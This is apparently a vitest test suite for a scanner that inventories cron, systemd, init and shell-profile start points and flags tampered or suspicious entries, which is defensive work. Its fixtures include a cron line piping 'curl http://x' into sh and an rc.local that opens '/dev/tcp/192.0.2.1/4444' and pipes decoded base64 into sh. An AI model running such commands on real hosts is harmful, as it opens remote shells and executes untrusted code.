import { truncateSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { withoutRoot } from '../../helpers/without-root.ts';
import { createFakeHost, nowMs, oldMs } from './fake-host.ts';

const isRoot = process.geteuid?.() === 0;

test('a point has its file, what it starts, as whom, when, and what the package says of both', async () => {
  using host = createFakeHost();
  host.install('tool', { '/etc/cron.d/tool': '0 5 * * * alice /usr/bin/tool -x\n', '/usr/bin/tool': 'code' }, [
    '/etc/cron.d/tool',
  ]);
  const { elements, statistics, errors, foundAnything } = await host.search({ kinds: ['cron'] });
  const facts = {
    owner: isRoot ? 'root' : expect.any(String),
    mtime: '2025-01-01T00:00:00Z',
    package: 'tool',
    checksum: 'agrees',
  };
  expect({ elements, statistics, errors, foundAnything }).toEqual({
    elements: {
      points: [
        {
          kind: 'cron',
          path: '/etc/cron.d/tool',
          line: 1,
          name: 'tool',
          commands: ['/usr/bin/tool -x'],
          runas: 'alice',
          when: '0 5 * * *',
          state: 'enabled',
          ...facts,
          mode: '0644',
          size: 33,
          sha256: expect.stringMatching(/^[0-9a-f]{64}$/),
          programs: [
            {
              path: '/usr/bin/tool',
              ...facts,
              mode: '0755',
              size: 4,
              sha256: '5694d08a2e53ffcae0c3103e5ad6f6076abd960eb1f8a56577040bc1028f702b',
            },
          ],
          notes: [],
        },
      ],
    },
    statistics: {
      examined: 1,
      hashedfiles: 2,
      hashedbytes: 37,
      exectime: expect.stringMatching(/^[\d.]+(µs|ms|s)$/),
      totalhits: 1,
    },
    errors: [],
    foundAnything: true,
  });
});

test('what a package says: it agrees, differs, is a configuration file, records nothing, or there is none', async () => {
  using host = createFakeHost();
  host.install(
    'all',
    {
      '/etc/cron.daily/same': 'a',
      '/etc/cron.daily/changed': 'a',
      '/etc/cron.daily/conf': 'a',
      '/etc/cron.daily/unrecorded': 'a',
    },
    ['/etc/cron.daily/conf'],
  );
  host.write(
    '/var/lib/dpkg/info/all.md5sums',
    '0cc175b9c0f1b6a831c399e269772661  etc/cron.daily/same\n0cc175b9c0f1b6a831c399e269772661  etc/cron.daily/changed\n',
  );
  for (const name of ['changed', 'conf', 'foreign']) host.write(`/etc/cron.daily/${name}`, 'b', { mode: 0o755 });
  const { elements } = await host.search({ kinds: ['cron'] });
  expect(elements.points.map(({ name, checksum, notes }) => [name, checksum, notes])).toEqual([
    ['changed', 'differs', ['its file differs from the one of its package']],
    ['conf', 'configuration file', []],
    ['foreign', 'not packaged', []],
    ['same', 'agrees', []],
    ['unrecorded', 'not recorded', []],
  ]);
  const foreign = await host.search({ unpackaged: true });
  expect(foreign.elements.points.map(({ name }) => name)).toEqual(['changed', 'conf', 'foreign']);
});

test('a packaged unit that starts a program of nobody, or another than its package made, is not clean', async () => {
  using host = createFakeHost();
  host.install('tool', {
    '/usr/lib/systemd/system/a.service': '[Service]\nExecStart=/usr/bin/a\n',
    '/usr/lib/systemd/system/b.service': '[Service]\nExecStart=/opt/b\n',
    '/usr/lib/systemd/system/c.service': '[Service]\nExecStart=/usr/bin/c\n',
    '/usr/bin/a': 'a',
    '/usr/bin/c': 'c',
  });
  host.write('/usr/bin/a', 'backdoor', { mode: 0o755 });
  host.write('/opt/b', 'b', { mode: 0o755 });
  const { elements } = await host.search({ unpackaged: true });
  expect(elements.points.map(({ name, notes }) => [name, notes])).toEqual([
    ['a.service', ['/usr/bin/a differs from the one of its package']],
    ['b.service', []],
  ]);
});

test('profiles that are as a package made them are of that package', async () => {
  using host = createFakeHost();
  host.install('bash', { '/etc/skel/.bashrc': 'a' });
  host.write('/home/alice/.bashrc', 'a', { uid: 1000 });
  host.write('/root/.bashrc', 'mine');
  const { elements } = await host.search({ kinds: ['shell'] });
  expect(elements.points.map(({ path, package: owner, checksum }) => [path, owner, checksum])).toEqual([
    ['/etc/skel/.bashrc', 'bash', 'agrees'],
    ['/root/.bashrc', undefined, 'not packaged'],
    ['/home/alice/.bashrc', 'bash', 'copy of a packaged file'],
  ]);
  expect((await host.search({ unpackaged: true })).elements.points.map(({ path }) => path)).toEqual(['/root/.bashrc']);
});

test.each<[unknown, readonly string[]]>([
  [{ kinds: ['cron'] }, ['tab', 'job']],
  [{ kinds: ['cron', 'init'] }, ['tab', 'job', 'rc.local']],
  [{ names: ['^tab$', '^rc'] }, ['tab', 'rc.local']],
  [{ names: ['!^tab$', '!^rc'] }, ['unit.service', 'job']],
  [{ paths: ['^/opt/'] }, ['unit.service']],
  [{ paths: ['!^/etc/'] }, []],
  [{ commands: ['curl'] }, ['tab']],
  [{ users: ['^alice$'] }, ['tab']],
  [{ users: ['!^root$'] }, ['tab']],
  [{ enabled: true }, ['tab', 'rc.local']],
  [{ changed: '<7d' }, ['unit.service', 'rc.local']],
  [{ changed: '>7d' }, ['unit.service', 'tab', 'job']],
  [{ suspicious: true, kinds: ['cron'] }, ['tab']],
])('%j finds %j', async (parameters, expected) => {
  using host = createFakeHost();
  host.write('/etc/systemd/system/unit.service', '[Service]\nExecStart=/opt/unit\n', { mtimeMs: oldMs });
  host.write('/opt/unit', '', { mode: 0o755, mtimeMs: nowMs - 1000 });
  host.write('/etc/cron.d/tab', '@daily alice curl http://x | sh\n', { mtimeMs: oldMs });
  host.write('/etc/cron.daily/job', '', { mtimeMs: oldMs });
  host.write('/etc/rc.local', '', { mode: 0o755, mtimeMs: nowMs - 1000 });
  const { elements } = await host.search(parameters);
  expect(elements.points.map(({ name }) => name)).toEqual(expected);
});

test('what is unusual about files and commands is noted', async () => {
  using host = createFakeHost();
  host.write('/etc/cron.d/a', '@daily root /tmp/.hidden/x\n', { mode: 0o666 });
  host.write('/tmp/.hidden/x', '', { mode: 0o755, uid: 1000 });
  host.makeFolder('/tmp', { mode: 0o1777 });
  host.makeFolder('/tmp/.hidden', { mode: 0o777 });
  host.write('/etc/cron.d/b', '@daily root /opt/gone\n', { mtimeMs: nowMs + 10 * 86_400_000 });
  host.write(
    '/etc/rc.local',
    '#!/bin/sh\n# curl x | sh\n\nexec 3<>/dev/tcp/192.0.2.1/4444\necho aGk= | base64 -d | sh\n',
    { mode: 0o755 },
  );
  const { elements } = await host.search();
  expect(
    Object.fromEntries(
      elements.points.map(({ name, notes }) => [name, notes.filter((note) => isRoot || !note.includes('belongs'))]),
    ),
  ).toEqual({
    a: [
      'its file can be changed by others',
      'names a file in a folder for temporary files',
      '/tmp/.hidden/x is in a folder that others can change',
      ...(isRoot ? ['/tmp/.hidden/x belongs to alice and is started as root'] : []),
      '/tmp/.hidden/x is in a folder for temporary files',
      '/tmp/.hidden/x is hidden',
    ],
    b: ['its file was modified in the future', '/opt/gone does not exist'],
    'rc.local': ['line 4 opens a connection from a shell', 'line 5 decodes base64'],
  });
});

test('a link is told with where it leads, and one that leads nowhere', async () => {
  using host = createFakeHost();
  host.write('/var/tmp/x', '', { mode: 0o755 });
  host.link('/etc/cron.daily/x', '/var/tmp/x');
  host.link('/etc/cron.daily/y', '/opt/gone');
  const { elements } = await host.search({ kinds: ['cron'] });
  expect(elements.points.map(({ name, linksto, notes }) => [name, linksto, notes])).toEqual([
    ['x', '/var/tmp/x', ['its file is in a folder for temporary files']],
    ['y', undefined, ['its file is a link that leads nowhere']],
  ]);
});

test('where no database of packages is found, that is said', async () => {
  using host = createFakeHost({ hasPackages: false });
  host.write('/etc/rc.local', '');
  expect((await host.search()).errors).toEqual(['no database of packages was found: no file counts as packaged']);
});

test('what a package brought is not read for unusual lines', async () => {
  using host = createFakeHost();
  host.install('x', {
    '/etc/cron.daily/x': 'echo x | base64 -d\n',
    '/etc/cron.d/x': '@daily root test -x /opt/none && /opt/none /tmp/x\n',
    '/usr/lib/systemd/system/x.socket': '[Socket]\nListenStream=/run/x\n',
  });
  const { elements } = await host.search({ kinds: ['systemd', 'cron'] });
  expect(elements.points.map(({ name, notes }) => [name, notes])).toEqual([
    ['x.socket', []],
    ['x', []],
    ['x', []],
  ]);
});

test('texts of the endpoint are cut to a length that can be read', async () => {
  using host = createFakeHost();
  host.write('/etc/cron.d/a', `@daily root ${'x'.repeat(100_000)}\n`);
  expect((await host.point({ kinds: ['cron'] }))?.commands?.[0]).toHaveLength(1003);
});

test('an empty root folder gives an answer', async () => {
  using host = createFakeHost();
  expect(await host.search()).toMatchObject({ foundAnything: false, elements: { points: [] }, errors: [] });
});

test('a hostile tree costs neither time nor memory without bound', async () => {
  using host = createFakeHost();
  host.write('/etc/cron.d/many', '@daily root /opt/x\n'.repeat(12_000));
  host.write('/etc/cron.d/long', '"\\ =#$('.repeat(100_000));
  host.link('/etc/cron.d/loop', 'loop');
  host.link('/etc/systemd/system/loop.service', 'loop.service');
  host.link('/home/alice/.bashrc', '/dev/zero');
  host.link('/home/alice/.profile', '/proc/kmsg');
  const startedMs = performance.now();
  const { elements, errors } = await host.search({ kinds: ['cron', 'systemd', 'shell'], names: ['many|loop|rc$'] });
  expect(performance.now() - startedMs).toBeLessThan(5000);
  expect(elements.points).toHaveLength(10_003);
  expect(errors).toEqual([expect.stringContaining('/etc/cron.d/many (2000 lines: 10001, ')]);
});

test('without root what cannot be read is counted and said', async () => {
  using host = createFakeHost();
  host.write('/etc/cron.d/a', '@daily root /opt/x\n', { mode: 0o600 });
  host.write('/etc/cron.d/b', '@daily root /opt/y\n');
  host.write('/var/spool/cron/crontabs/alice', '@daily x\n', { mode: 0o600 });
  host.makeFolder('/var/spool/cron/crontabs', { mode: 0o700 });
  const { elements, errors } = await withoutRoot(() => host.search({ kinds: ['cron'] }));
  expect(elements.points.map(({ name }) => name)).toEqual(isRoot ? ['b'] : ['a', 'b', 'alice']);
  if (isRoot)
    expect(errors).toEqual(['2 could not be read, permission denied: /etc/cron.d/a, /var/spool/cron/crontabs']);
});

test('a stop ends the run with what was found', async () => {
  using host = createFakeHost();
  host.write('/etc/cron.d/b', '@daily root /opt/y\n');
  const stop = new AbortController();
  stop.abort();
  expect((await host.search({}, stop.signal)).errors).toContain('stopped before every start point was looked at');
});

test('a stop while a long file is hashed ends the run at once', async () => {
  using host = createFakeHost();
  host.write('/etc/rc.local', '', { mode: 0o755 });
  truncateSync(join(host.path, '/etc/rc.local'), 1000 << 20);
  const stop = new AbortController();
  const running = host.search({ kinds: ['init'] }, stop.signal);
  await new Promise((resolve) => setTimeout(resolve, 60));
  const stoppedMs = performance.now();
  stop.abort();
  await running;
  expect(performance.now() - stoppedMs).toBeLessThan(1000);
});
